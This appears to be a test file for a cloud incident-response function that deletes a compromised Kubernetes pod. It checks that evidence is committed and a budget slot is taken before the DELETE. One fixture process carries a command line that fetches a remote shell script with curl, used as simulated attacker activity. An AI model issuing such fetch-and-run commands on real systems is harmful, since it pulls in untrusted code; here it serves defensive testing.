// The budget slot is taken while the verified binary commits, not after: the whole function
// (Functions Framework test server, real composition root, real client libraries) in enforce
// mode, the evidence store and the blast-radius slots in the fake bucket. What is asserted is
// the order of the calls the fakes received (the binary's upload, the slot's, the DELETE),
// never how long they took:
//   1. the slot's create reaches the store while the binary's upload is still unanswered (the
//      fake holds that answer until the slot arrives, 8 s at most), and the DELETE comes after
//      both answers;
//   2. a hold the target causes (a copy that does not count, under requireEvidence: stored) is
//      decided before any slot is taken: no slot object is created; negative controls: the same
//      copies under `attempted`, and an honest copy under `stored`, do take one;
//   3. our store failing to commit an already verified copy: the action is held (no DELETE),
//      its slot stays taken, and the report and the audit log say so.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test, type TestContext } from 'node:test';
import { configureResponder } from '../../functions/scc-responder/index.js';
import { captureAudit, OPERATION } from '../support/audit-capture.js';
import { freshFinding, postStructured, structuredEvent } from '../support/cloudevents.js';
import { startFunctionWorld, type FunctionWorld } from '../support/function-world.js';
import type { FakeContainerSpec, FakeProcess } from '../support/fake-kube.js';
import { waitUntil, type CallRecord } from '../support/faults.js';
import { isUploadNamed, uploadNamed, uploadNameOf } from '../support/fake-gcs.js';
import { DEPLOY_POD, NODE, NS } from '../support/fake-kube-world.js';
import { BUCKET, FIXTURE_BINARY, type Stack } from '../support/stack.js';

const POD_PATH = `/api/v1/namespaces/${NS}/pods/${DEPLOY_POD}`;
const CURL = '/usr/bin/curl';
const HOLD_LIMIT_MS = 8_000;

function policy(over: { gate?: 'stored' | 'attempted'; maxBytes?: number } = {}): string {
  return `version: 1
${over.gate ? `requireEvidence: ${over.gate}\n` : ''}snapshot:
  timeoutSeconds: 30${over.maxBytes === undefined ? '' : `\n  maxBytes: ${over.maxBytes}`}
enrich:
  callTimeoutSeconds: 5
rules:
  - name: slot-beside-commit
    match:
      categories: ["Execution: Modified Malicious Binary Executed"]
      namespaces: ["${NS}"]
    mode: enforce
    actions:
      - type: deletePod
        gracePeriodSeconds: 0
    maxActionsPerHour: 10000
`;
}

let stack: Stack;
let world: FunctionWorld;
let url: string;
let dir: string;
const audit = captureAudit();

const MAIN: FakeProcess = { pid: 1, exe: '/usr/local/bin/checkout', exeFile: { content: Buffer.from('checkout server') }, cmdline: ['/usr/local/bin/checkout', '--port=8080'] };

function curl(over: Partial<FakeProcess> = {}): FakeProcess {
  return { pid: 7, ppid: 1, exe: CURL, exeFile: { content: FIXTURE_BINARY }, cmdline: [CURL, '-s', 'http://203.0.113.50/x.sh'], startTime: 5000, ...over };
}

function freshPod(container: Partial<FakeContainerSpec> = {}): void {
  stack.world.kube.addPod({
    namespace: NS, name: DEPLOY_POD, uid: `pod-${Math.random().toString(16).slice(2, 10)}`, creationTimestamp: new Date(Date.now() - 3_600_000).toISOString(), nodeName: NODE,
    labels: { app: 'checkout', 'pod-template-hash': '7d9f8b6c5d' },
    ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'checkout-7d9f8b6c5d', uid: 'rs-checkout', controller: true }],
    containers: [{ name: 'checkout', image: 'us-docker.pkg.dev/acme-payments-prod/apps/checkout:2.14.1', files: { [CURL]: { content: FIXTURE_BINARY } }, processes: [MAIN, curl()], ...container }],
  });
}

function usePolicy(name: string, yaml: string): void {
  const file = join(dir, `${name}.yaml`);
  writeFileSync(file, yaml);
  configureResponder({ env: stack.env({ SCC_RESPONDER_POLICY: file }), auditDestination: audit.destination });
}

const isSlot = (c: CallRecord): boolean => c.key.startsWith('POST /upload/') && /\/slots\/\d+\.json$/.test(uploadNameOf(c.detail));
const isBinary = (findingId: string): ((c: CallRecord) => boolean) => isUploadNamed(`/${findingId}/binary`);
const slotObjects = (): number => stack.gcs.objects(BUCKET).filter((o) => /_ratelimit\/slot-beside-commit\/.*\/slots\/\d+\.json$/.test(o.name)).length;

interface ReportAction {
  type: string;
  status: string;
  detail: string;
  guards: { name: string; verdict: string; reason: string }[];
  warnings: string[];
}

interface Delivery {
  status: number;
  findingId: string;
  /** The fakes' calls since the delivery started (performance.now() on both). */
  gcs: CallRecord[];
  deleted?: CallRecord;
  report?: { actions: ReportAction[] };
  warnings: string[];
  slotsTaken: number;
}

async function deliver(t: TestContext, label: string, prepare?: (findingId: string) => void): Promise<Delivery> {
  audit.clear();
  const gcsFrom = stack.gcs.faults.calls.length;
  const kubeFrom = stack.world.kube.faults.calls.length;
  const slotsBefore = slotObjects();
  const { notification, findingName, findingId } = freshFinding('slot');
  prepare?.(findingId);
  stack.known(notification);
  const status = (await postStructured(url, structuredEvent(notification))).status;
  const deleted = stack.world.kube.faults.calls.slice(kubeFrom).find((c) => c.key === `DELETE ${POD_PATH}`);
  const reportObject = stack.gcs.objects(BUCKET).find((o) => o.name.endsWith(`/${findingId}/report.json`));
  const report = reportObject ? (JSON.parse((await stack.gcs.read(BUCKET, reportObject.name)).toString('utf8')) as { actions: ReportAction[] }) : undefined;
  const entries = audit.entries().filter((e) => (e[OPERATION] as { id?: string } | undefined)?.id === findingName);
  const warnings = entries.filter((e) => e['severity'] === 'WARNING').map((e) => String(e['message']));
  t.diagnostic(`${label}: status ${status}, ${deleted ? 'DELETE sent' : 'no DELETE'}, slots taken ${slotObjects() - slotsBefore}`);
  return { status, findingId, gcs: stack.gcs.faults.calls.slice(gcsFrom), ...(deleted ? { deleted } : {}), ...(report ? { report } : {}), warnings, slotsTaken: slotObjects() - slotsBefore };
}

const deletePod = (d: Delivery): ReportAction | undefined => d.report?.actions.find((a) => a.type === 'deletePod');

before(async () => {
  world = await startFunctionWorld('slot-beside-commit-');
  ({ stack, url, dir } = world);
});

after(async () => {
  await world.close();
});

describe('the budget slot beside the binary commit', () => {
  test('the slot is created while the verified binary is still being committed; the DELETE waits for both', async (t) => {
    usePolicy('attempted', policy());
    freshPod();
    let d: Delivery;
    try {
      d = await deliver(t, 'overlap', (findingId) => {
        // The binary's upload is answered only once a slot's create has reached the store.
        const release = waitUntil(() => stack.gcs.faults.calls.some(isSlot), HOLD_LIMIT_MS);
        stack.gcs.faults.inject({ match: 'POST /upload/', where: uploadNamed(`/${findingId}/binary`), release });
      });
    } finally {
      stack.gcs.faults.clear();
    }
    const binary = d.gcs.find(isBinary(d.findingId));
    const slot = d.gcs.find(isSlot);
    assert.ok(binary?.end !== undefined && slot?.end !== undefined, 'the binary and a slot were both written');
    assert.ok(slot.start < binary.end, `the slot's create (at ${slot.start.toFixed(1)}) reached the store before the binary's commit was answered (at ${binary.end.toFixed(1)})`);
    assert.equal(d.slotsTaken, 1);
    assert.ok(d.deleted, 'the pod was deleted');
    assert.ok(d.deleted.start > binary.end, 'the DELETE came after the binary was committed (evidence durable before destruction)');
    assert.ok(d.deleted.start > slot.end, 'the DELETE came after its slot was taken');
    const guard = deletePod(d)?.guards.find((g) => g.name === 'evidence');
    assert.match(guard?.reason ?? '', /^evidence stored at gs:\/\//, 'the report judges the gate on the committed copy, not on the verdict before it');
    assert.equal(d.status, 204);
  });

  test("a hold the target causes takes no slot (requireEvidence: stored): the container's lying cat, and a copy cut at the size cap", async (t) => {
    usePolicy('stored', policy({ gate: 'stored' }));
    // The collector cannot read the processes (not dumpable): the container's own cat answers, with other bytes.
    freshPod({ processes: [{ ...MAIN, dumpable: false }, curl({ dumpable: false })], lyingCat: Buffer.from('totally innocent\n') });
    const lying = await deliver(t, 'lying cat, stored');
    usePolicy('stored-cut', policy({ gate: 'stored', maxBytes: 2 }));
    freshPod();
    const cut = await deliver(t, 'cut copy, stored');
    for (const d of [lying, cut]) {
      assert.equal(d.deleted, undefined, 'no DELETE');
      assert.ok(d.gcs.some(isBinary(d.findingId)), 'the copy was verified and committed (it is what the gate judged)');
      assert.equal(d.slotsTaken, 0, 'no slot was taken');
      assert.ok(!d.gcs.some(isSlot), 'no slot create reached the store');
      const action = deletePod(d);
      assert.equal(action?.status, 'refused');
      assert.ok(!action?.guards.some((g) => g.name === 'blast-radius'), 'the blast radius was never judged');
      assert.match(action?.guards.find((g) => g.name === 'evidence')?.reason ?? '', /requireEvidence: stored/);
    }
    assert.match(deletePod(lying)?.detail ?? '', /may have lied/);
    assert.match(deletePod(cut)?.detail ?? '', /cut at the size cap/);
  });

  test('negative control: the same two copies under requireEvidence: attempted are no hold, so each takes a slot and the pod is deleted', async (t) => {
    usePolicy('attempted', policy());
    freshPod({ processes: [{ ...MAIN, dumpable: false }, curl({ dumpable: false })], lyingCat: Buffer.from('totally innocent\n') });
    const lying = await deliver(t, 'lying cat, attempted');
    usePolicy('attempted-cut', policy({ maxBytes: 2 }));
    freshPod();
    const cut = await deliver(t, 'cut copy, attempted');
    for (const d of [lying, cut]) {
      assert.equal(d.slotsTaken, 1, 'one slot taken');
      assert.ok(d.deleted, 'the pod was deleted');
    }
  });

  test('negative control: an honest copy under requireEvidence: stored takes its slot and the pod is deleted', async (t) => {
    usePolicy('stored', policy({ gate: 'stored' }));
    freshPod();
    const d = await deliver(t, 'honest copy, stored');
    assert.equal(d.slotsTaken, 1);
    assert.ok(d.deleted, 'the pod was deleted');
    assert.equal(deletePod(d)?.status, 'done');
  });

  test('our store cannot commit the verified copy: the action is held, its slot stays taken, and the report and log say so', async (t) => {
    usePolicy('attempted', policy());
    freshPod();
    let d: Delivery;
    try {
      d = await deliver(t, 'commit fails', (findingId) => {
        stack.gcs.faults.inject({ match: 'POST /upload/', where: uploadNamed(`/${findingId}/binary`), status: 403, times: Number.POSITIVE_INFINITY });
      });
    } finally {
      stack.gcs.faults.clear();
    }
    assert.ok(d.gcs.some((c) => isBinary(d.findingId)(c) && c.fault?.status === 403), 'the store refused the commit');
    assert.equal(d.deleted, undefined, 'no DELETE without the evidence committed');
    assert.equal(d.slotsTaken, 1, 'the slot taken beside the commit stays taken (over-counting, the safe direction)');
    const action = deletePod(d);
    assert.equal(action?.status, 'refused');
    assert.match(action?.guards.find((g) => g.name === 'evidence')?.reason ?? '', /writing to .* failed/);
    assert.equal(action?.guards.find((g) => g.name === 'blast-radius')?.verdict, 'pass');
    assert.match(action?.detail ?? '', /its budget slot stays counted \(slot \d+ of rule slot-beside-commit in \d{4}-\d{2}-\d{2}T\d{2}Z\)/);
    assert.ok(d.warnings.some((w) => /deletePod: held after its budget slot was taken .* then the commit failed .* the slot stays counted though nothing was done/.test(w)), d.warnings.join('\n'));
  });
});
